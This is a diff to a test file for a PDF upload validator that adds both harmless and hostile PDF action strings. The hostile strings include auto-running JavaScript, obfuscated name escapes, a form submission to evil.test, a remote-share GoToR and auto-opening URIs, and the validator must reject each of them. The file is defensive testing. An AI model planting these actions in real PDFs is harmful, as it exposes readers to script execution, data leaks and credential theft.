@@ -72,8 +72,9 @@ test.each([
     },
   ],
 ] as const)('a PDF whose objects are %s is looked into', async (_, press) => {
-  // The way to the first page is nothing that a PDF does.
-  expect(await read(pressedPdf('/OpenAction [4 0 R /Fit]', press))).toMatchObject({ kind: 'pdf', pages: 1 });
+  // The way to the first page, and a link that somebody has to press, start nothing.
+  for (const tame of ['/OpenAction [4 0 R /Fit]', '/A << /S /URI /URI (https://a.test) >>'])
+    expect(await read(pressedPdf(tame, press))).toMatchObject({ kind: 'pdf', pages: 1 });
   for (const evil of [
     '/OpenAction << /S /JavaScript /JS (app.alert) >>',
     '/OpenAction << /S /J#61vaScript /J#53 (app.alert) >>',
@@ -81,6 +82,10 @@ test.each([
     '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /EF << /F 9 0 R >> >>] >> >>',
     '/AcroForm << /Fields [] /XFA 9 0 R >>',
     '/OpenAction << /S /SubmitForm /F (https://evil.test) >>',
+    '/OpenAction << /S /GoToR /F (\\\\evil.test\\share\\a.pdf) /D [0 /Fit] >>',
+    '/OpenAction << /S /URI /URI (https://evil.test) >>',
+    '/OpenAction << /S /GoTo /Next << /S /#55RI /URI (https://evil.test) >> >>',
+    '/AA << /O 9 0 R >> /A << /S /URI /URI (https://evil.test) >>',
   ]) {
     const look = () => findKind(pressedPdf(evil, press));
     expect(look, evil).toThrow(new FileError('含有脚本或附件，请另存为普通 PDF 或拍照上传'));
